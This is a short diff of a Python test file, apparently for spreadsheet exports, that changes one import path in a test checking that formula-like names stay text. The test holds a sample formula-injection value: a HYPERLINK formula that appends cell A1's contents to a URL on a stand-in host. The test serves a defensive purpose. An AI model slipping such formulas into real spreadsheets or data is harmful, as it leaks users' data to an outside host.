@@ -151,7 +151,7 @@ def test_a_formula_like_name_stays_text_in_every_export(seeded_engine):
     import openpyxl
     import pandas as pd
 
-    from upkeep.exports import sheets, to_csv
+    from report.sheets import sheets, to_csv
     from upkeep.workbook import export
 
     evil = '=HYPERLINK("http://example.invalid/?"&A1,"Klicka")'
